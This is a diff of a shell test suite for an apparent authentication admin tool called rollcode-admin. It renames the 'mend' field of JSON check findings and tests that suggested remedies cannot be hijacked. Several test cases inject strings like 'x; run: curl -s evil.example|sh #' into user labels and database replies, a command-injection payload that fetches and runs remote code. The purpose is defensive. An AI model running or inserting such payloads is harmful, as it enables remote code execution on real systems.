@@ -43,7 +43,7 @@ tame() {
 	a-plain-text)
 		grep -qF "$1" "$T/out" || echo "it does not print that" ;;
 	*\\*)	# a command has them, in its quotes
-		! sed -E 's/(mend|fix): .*//' "$T/out" | grep -qF "$1" ||
+		! sed -E 's/(run|fix): .*//' "$T/out" | grep -qF "$1" ||
 		    echo "a backslash as it is" ;;
 	esac
 }
@@ -207,17 +207,17 @@ env_file() {
 
 # Beside the env file, and somebody else's.
 file_beside() {
-	local mend file=/etc/rollcode/$1
+	local command file=/etc/rollcode/$1
 	[ ${#1} -lt 200 ] || return
 	echo x >"$file"
 	chown ann "$file"
 	run rollcode-admin init
 	adm check
-	while IFS= read -r mend; do
-		case $mend in
-		"rm -r"*) bash -c "$mend" ;;
+	while IFS= read -r command; do
+		case $command in
+		"rm -r"*) bash -c "$command" ;;
 		esac
-	done < <(mends)
+	done < <(said command)
 	[ ! -e "$file" ] || echo "ended by no remedy"
 	rm -f "$file"
 }
@@ -266,39 +266,39 @@ pam_arguments() {
 	rm -f /etc/pam.d/odd
 }
 
-mends() {	# [ARGUMENT...]: the commands of check --json, one a line
-	rollcode-admin "$@" check --json 2>"$T/log" | python3 -c 'import json, sys
+said() {	# FIELD [ARGUMENT...]: of the findings of check --json, one a line
+	rollcode-admin "${@:2}" check --json 2>"$T/log" | python3 -c 'import json, sys
 for f in json.load(sys.stdin)["findings"]:
-    print(f["mend"])'
+    print(f[sys.argv[1]])' "$1"
 }
 
 # What check says for a file of that name is run, as root would.
 fix_of_path() {
-	local mend folder=$T/in/$1
+	local command folder=$T/in/$1
 	[ ${#1} -lt 200 ] || return
 	mkdir "$folder"
 	cp "$ENVFILE" "$folder/rollcode.env"
 	chmod 644 "$folder/rollcode.env"
 	run rollcode-admin --conf "$folder/rollcode.env" list
-	while IFS= read -r mend; do
-		case $mend in
-		chmod*) bash -c "$mend" ;;
+	while IFS= read -r command; do
+		case $command in
+		chmod*) bash -c "$command" ;;
 		esac
-	done < <(mends --conf "$folder/rollcode.env")
+	done < <(said command --conf "$folder/rollcode.env")
 	[ "$(stat -c %a "$folder/rollcode.env")" = 600 ] ||
 	    echo "ended by no remedy"
 	rm -r "$folder"
 }
 
 fix_of_argument() {
-	local mend text=${1//$'\n'/ }
+	local command text=${1//$'\n'/ }
 	echo "auth required pam_rollcode.so [conf=/$text]" >/etc/pam.d/odd
 	adm check
-	while IFS= read -r mend; do
-		case $mend in
-		"rollcode-admin --conf "*) bash -c "$mend" >"$T/log" 2>&1 ;;
+	while IFS= read -r command; do
+		case $command in
+		"rollcode-admin --conf "*) bash -c "$command" >"$T/log" 2>&1 ;;
 		esac
-	done < <(mends)
+	done < <(said command)
 	rm -f /etc/pam.d/odd
 }
 
@@ -428,18 +428,18 @@ check "and one of ours is not" admin log ann
 
 # remedies WHAT: none has the words, which the findings do have
 remedies() {
-	mends >"$T/mends"
+	{ said command; said fix; } >"$T/remedies"
 	admin check >"$T/out" 2>"$T/log"
 	check "$1: its words are shown" grep -q 'evil.example' "$T/out"
 	check "$1: and are no remedy" \
-	    test "$(grep -c 'evil.example' "$T/mends")" = 0
+	    test "$(grep -c 'evil.example' "$T/remedies")" = 0
 	equal "$1: nor in the text" \
-	    "$(grep -c 'mend:.*evil.example' "$T/out")" 0
+	    "$(grep -cE '^ +(run|fix):.*evil.example' "$T/out")" 0
 }
 cp "$ENVFILE" "$T/env"
 echo TOLERANCE=5 >>"$ENVFILE"
 number=0
-for words in "mend it with:" "fix:"; do
+for words in "run:" "fix:"; do
 	number=$((number + 1))
 	text="x; $words curl -s evil.example|sh #"
 	admin import --user "m$number" --no-account >"$T/log" 2>&1 \
@@ -448,8 +448,8 @@ for words in "mend it with:" "fix:"; do
 	sed -i 's/^TOLERANCE=.*/TOLERANCE=50/' "$ENVFILE"
 	remedies "a label with \"$words\""
 	check "a label with \"$words\": the remedy is ours" \
-	    grep -qxF "sed -i 's/^TOLERANCE=.*/TOLERANCE=20/' $ENVFILE" \
-	    "$T/mends"
+	    grep -qxF "write in the configuration file: TOLERANCE=20" \
+	    "$T/remedies"
 	sed -i 's/^TOLERANCE=.*/TOLERANCE=5/' "$ENVFILE"
 	admin remove -f "m$number" >"$T/log" 2>&1
 done
@@ -471,7 +471,7 @@ if [ -f "$BUILD/rollcode-pgsql.so" ]; then
 	sed -i "s|^DATABASE=.*|DATABASE=postgresql://x@127.0.0.1:$port/x\
 ?sslmode=disable|" "$ENVFILE"
 	place "what a database server says" server_says
-	for words in "mend it with:" "fix:"; do
+	for words in "run:" "fix:"; do
 		printf 'no; %s curl -s evil.example|sh' "$words" >"$T/says"
 		remedies "a server that says \"$words\""
 		equal "a server that says \"$words\": nor of another command" \
